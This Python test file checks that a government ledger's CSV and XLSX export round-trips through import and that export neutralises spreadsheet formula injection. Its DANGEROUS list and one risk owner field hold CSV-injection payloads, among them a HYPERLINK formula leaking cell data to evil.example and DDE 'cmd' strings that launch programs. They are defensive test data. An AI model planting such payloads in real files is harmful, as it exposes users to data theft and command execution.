"""Export writes the import format, so export → import into an empty data directory
gives the same ledger; and cells a spreadsheet would run as formulas open as text."""

from __future__ import annotations

import csv
import filecmp
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from govledger.commands.transfer import export_command
from ledger.application import Ledger, open_ledger
from ledger.domain import Item
from ledger.transfer.cells import FORMULA_TRIGGERS, protect_csv, unprotect
from ledger.transfer.export import ExportError, export
from ledger.transfer.importing import import_file
from ledger.transfer.kinds import KINDS, header

SEED = Path(__file__).resolve().parents[1] / "govledger" / "demo" / "seed"

# Texts that would run as formulas if a spreadsheet took them at their word.
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=SUM(A1:A9)",  # (a leading tab or CR never reaches the ledger: texts are stripped)
    "'=already quoted by someone",  # must come back with its own quote
]


@pytest.fixture(autouse=True)
def _sqlite_event_store(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("PERSISTENCE_MODULE", raising=False)


def opened(path: Path) -> Ledger:
    return open_ledger(path)


@pytest.fixture
def ledger(tmp_path: Path) -> Iterator[Ledger]:
    app = opened(tmp_path / "data")
    yield app
    app.close()


@pytest.fixture
def rich(ledger: Ledger) -> Ledger:
    """The seed plus everything the seed lacks: corrections, re-ratings, closed risks,
    reviewed dependencies, corrected values, breakdowns, rewritten narratives, a
    five-point scale, and texts that look like formulas."""
    assert import_file(ledger, SEED, actor="alice").ok
    a = {"actor": "bob"}
    ledger.register_programme(
        "board", "Improvement board", cadence="quarterly", scale="five-point",
        requires_mitigation=False, contact={"name": "Pat", "phone": "01234", "email": ""}, **a,
    )
    ledger.rename_programme("board", "Improvement Board", reason="Capitals", **a)
    ledger.register_item("board", "B1", kind="objective", title="Faster", lead_officer="Pat", **a)
    ledger.retitle_item("board", "B1", "Faster decisions", reason="Clearer", **a)
    ledger.record_status("board", "B1", period="2024/25 Q1", status="Amber/Green", update="Close", **a)
    ledger.correct_status(
        "board", "B1", period="2024/25 Q1", status="Green", update="Met", reason="Misread the table", **a
    )
    for i, text in enumerate(DANGEROUS):
        ledger.record_status(
            "board", "B1", period=f"2025/26 Q{i % 4 + 1}", status="Green", update=text,
            reason="restated" if i >= 4 else "", **a,
        )
    ledger.raise_risk(
        "board", "R1", description="Staff leave", rag_before="Red", mitigation="Pay review",
        period="2024/25 Q1", owner="=cmd|' /C calc'!A0", **a,
    )
    ledger.rerate_risk(
        "board", "R1", rag_before="Red", mitigation="Pay agreed", rag_after="Amber/Green",
        period="2024/25 Q2", reason="Pay settled", **a,
    )
    ledger.close_risk("board", "R1", period="2024/25 Q3", reason="Retention back to normal", **a)
    ledger.raise_risk(
        "board", "I1", kind="issue", description="Backlog", rag_before="Amber", period="2024/25 Q2", **a
    )
    ledger.register_dependency(
        "board", "D1", description="IT system", plan_agreed="no", period="2024/25 Q1", **a
    )
    ledger.review_dependency(
        "board", "D1", plan_agreed="yes", confidence="Low", period="2024/25 Q2", reason="Signed", **a
    )
    ledger.correct_dependency(
        "board", "D1", description="New IT system", owner="CIO", reason="Named properly", **a
    )
    ledger.define_indicator("board", "WAIT", name="Waiting days", unit="days", better="lower",
                            description="Median wait", **a)
    ledger.record_indicator_value("board", "WAIT", period="2024/25 Q1", value="-5", breakdown="North", **a)
    ledger.record_indicator_value("board", "WAIT", period="2024/25 Q1", value="12.50", **a)
    ledger.record_indicator_value(
        "board", "WAIT", period="2024/25 Q1", value="13", reason="Late returns", **a
    )
    ledger.define_indicator("board", "SAT", name="Satisfaction", unit="%", better="higher", **a)
    ledger.write_narrative("board", period="2024/25 Q1", section="challenges", text="Recruitment", **a)
    ledger.write_narrative(
        "board", period="2024/25 Q1", section="challenges", text="@Recruitment and pay", reason="More", **a
    )
    return ledger


def status_history(ledger: Ledger) -> list[tuple[Any, ...]]:
    """Every status event of every item: type, period, status, update, mitigation, reason."""
    history = []
    for notification in ledger.recorder.select_notifications(0, 100_000, inclusive_of_start=False):
        event = ledger.mapper.to_domain_event(notification)
        if type(event).__name__ in ("StatusRecorded", "StatusCorrected"):
            item = ledger.repository.get(event.originator_id)
            assert isinstance(item, Item)
            history.append((
                item.ref, type(event).__name__, event.period, event.status, event.update,
                event.mitigation, event.reason,
            ))
    return sorted(history, key=lambda h: h[0])  # per item, in recorded order


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


# --------------------------------------------------------------------------- round trip


@pytest.mark.parametrize("suffix", ["", ".xlsx"], ids=["csv folder", "xlsx"])
def test_export_then_import_into_an_empty_ledger_gives_the_same_ledger(
    rich: Ledger, tmp_path: Path, suffix: str
) -> None:
    first = tmp_path / "first"
    export(rich, first)
    exported = tmp_path / f"export{suffix}"
    export(rich, exported)

    fresh = opened(tmp_path / "fresh")
    try:
        result = import_file(fresh, exported, actor="carol")
        assert result.ok, result.problems
        assert status_history(fresh) == status_history(rich)
        again = tmp_path / "again"
        export(fresh, again)
        # Importing the export into the original ledger records nothing either.
        assert import_file(rich, exported, actor="carol").event_count == 0
    finally:
        fresh.close()
    for kind in KINDS:
        assert filecmp.cmp(first / f"{kind}.csv", again / f"{kind}.csv", shallow=False), kind


def test_the_export_holds_current_state_and_full_status_history(rich: Ledger, tmp_path: Path) -> None:
    export(rich, tmp_path / "out")
    rows = {kind: read_csv(tmp_path / "out" / f"{kind}.csv") for kind in KINDS}
    # The history grid's header goes on with a column per period (see tests/test_history_grid.py).
    assert all(rows[kind][0][: len(header(kind))] == header(kind) for kind in KINDS)
    assert all(rows[kind][0] == header(kind) for kind in KINDS if kind != "history")
    board = [r for r in rows["programmes"] if r[0] == "board"]
    assert board == [["board", "Improvement Board", "quarterly", "five-point", "no", "", "Pat", "01234", ""]]
    b1 = [r[2:] for r in rows["statuses"] if r[1] == "B1"][:2]
    assert b1 == [
        ["2024/25 Q1", "Amber/Green", "Close", "", "", ""],
        ["2024/25 Q1", "Green", "Met", "", "Misread the table", "yes"],
    ]
    # A risk is written one row per period: rated, re-rated, then closed (no new rating).
    r1 = [r[3:] for r in rows["risks"] if r[1] == "R1"]
    owner = "'=cmd|' /C calc'!A0"
    assert r1 == [
        ["2024/25 Q1", "Staff leave", owner, "Red", "Pay review", "", "open", ""],
        ["2024/25 Q2", "Staff leave", owner, "Red", "Pay agreed", "Amber/Green", "open", "Pay settled"],
        ["2024/25 Q3", "Staff leave", owner, "", "", "", "closed", "Retention back to normal"],
    ]
    assert [r[9] for r in rows["risks"] if r[1] == "I1"] == ["open"]
    values = [r[5:] for r in rows["indicators"] if r[1] in ("WAIT", "SAT")]
    assert values == [
        ["2024/25 Q1", "North", "-5", "", "Median wait"],  # a plain negative number: no quote
        ["2024/25 Q1", "", "13", "Late returns", "Median wait"],
        ["", "", "", "", ""],  # defined, not yet measured
    ]


# --------------------------------------------------------------------------- injection


def test_csv_export_quotes_formula_cells_and_import_unquotes_them(rich: Ledger, tmp_path: Path) -> None:
    export(rich, tmp_path / "out")
    updates = [r[4] for r in read_csv(tmp_path / "out" / "statuses.csv") if r[1] == "B1"][2:]
    assert updates == ["'" + text for text in DANGEROUS]
    narrative = [r[3] for r in read_csv(tmp_path / "out" / "narratives.csv") if r[0] == "board"]
    assert narrative == ["'@Recruitment and pay"]

    fresh = opened(tmp_path / "fresh")
    try:
        assert import_file(fresh, tmp_path / "out", actor="carol").ok
        history = [h[4] for h in status_history(fresh) if h[0] == "B1"][2:]
        assert history == DANGEROUS
    finally:
        fresh.close()


def test_xlsx_export_stores_formula_looking_cells_as_strings(rich: Ledger, tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    export(rich, path)
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
    book = openpyxl.load_workbook(path, data_only=False)
    cells = [row[4] for row in book["statuses"].iter_rows(min_row=2) if row[1].value == "B1"][2:]
    assert [c.data_type for c in cells] == ["s"] * len(DANGEROUS)
    # In a workbook the quote is never part of the value, except to keep a text's own quote.
    assert [c.value for c in cells] == [*DANGEROUS[:-1], "'" + DANGEROUS[-1]]
    wait = [row for row in book["indicators"].iter_rows(min_row=2, values_only=True) if row[1] == "WAIT"]
    assert [row[7] for row in wait] == [-5, 13]  # numbers stay numbers
    book.close()


@given(st.text())
def test_quoting_for_csv_is_undone_exactly_by_the_importer(text: str) -> None:
    quoted = protect_csv(text)
    assert unprotect(quoted) == text
    if quoted[:1] in FORMULA_TRIGGERS:
        assert quoted.lstrip("+-").removesuffix("%").replace(".", "", 1).isdigit()  # only plain numbers


# --------------------------------------------------------------------------- edges and CLI


def test_an_empty_ledger_exports_a_template_of_headers(ledger: Ledger, tmp_path: Path) -> None:
    result = export(ledger, tmp_path / "template")
    assert result.rows == dict.fromkeys(KINDS, 0)
    assert {p.name for p in (tmp_path / "template").iterdir()} == {f"{k}.csv" for k in KINDS}
    assert read_csv(tmp_path / "template" / "statuses.csv") == [header("statuses")]


def test_a_missing_event_store_is_not_created_by_export(tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="No event store at"):
        export(tmp_path / "nowhere", tmp_path / "out")
    assert not (tmp_path / "nowhere").exists()


def test_export_refuses_a_single_csv_name(ledger: Ledger, tmp_path: Path) -> None:
    with pytest.raises(ExportError, match=r"a folder of CSV files or an \.xlsx workbook"):
        export(ledger, tmp_path / "out.csv")


def test_the_export_command(rich: Ledger, tmp_path: Path) -> None:
    data_dir = tmp_path / "data"
    rich.close()  # the command opens its own
    result = CliRunner().invoke(export_command, [str(tmp_path / "out.xlsx")], obj={"data_dir": data_dir})
    assert result.exit_code == 0, result.output
    out = tmp_path / "out.xlsx"
    assert result.output.startswith(
        f"Exported to {out} (scales: 0, programmes: 4, periods: 0, scale_changes: 0, items: 100,"
    )

    missing = CliRunner().invoke(export_command, [str(tmp_path / "x")], obj={"data_dir": tmp_path / "none"})
    assert missing.exit_code == 1
    assert "Export failed: No event store at" in missing.output
    assert "Traceback" not in missing.output


def test_export_help() -> None:
    result = CliRunner().invoke(export_command, ["--help"])
    assert result.exit_code == 0 and ".xlsx" in result.output
